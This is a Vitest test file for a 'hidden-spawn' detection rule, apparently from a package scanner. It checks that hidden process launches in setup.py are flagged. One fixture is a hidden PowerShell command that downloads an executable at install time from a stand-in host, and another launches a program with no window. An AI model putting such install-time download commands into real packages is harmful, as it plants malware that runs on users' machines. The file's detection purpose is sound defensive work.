import { describe, it, expect } from 'vitest';
import { hits, maxSev } from './helpers.js';

describe('hidden-spawn', () => {
  it('flags powershell -w hidden at install (high)', () => {
    const src = `import subprocess\nsubprocess.Popen('powershell -w hidden -c "iwr http://x/a.exe -OutFile a.exe"', shell=True)\n`;
    expect(maxSev(hits('hidden-spawn', { 'setup.py': src }))).toBe('high');
  });
  it('flags CREATE_NO_WINDOW at install (high) but keeps a library daemon launcher low', () => {
    const src = `import subprocess\nsubprocess.Popen(['x.exe'], creationflags=subprocess.CREATE_NO_WINDOW)\n`;
    expect(maxSev(hits('hidden-spawn', { 'setup.py': src }))).toBe('high');
    const lib = `import subprocess\ndef go():\n    subprocess.Popen(['mongocryptd'], creationflags=subprocess.CREATE_NO_WINDOW)\n`;
    expect(maxSev(hits('hidden-spawn', { 'pkg/daemon.py': lib }))).toBe('low');
  });
  it('does not flag a visible subprocess call', () => {
    expect(hits('hidden-spawn', { 'setup.py': `import subprocess\nsubprocess.check_call(['make', '-j2'])\n` })).toEqual([]);
  });
});
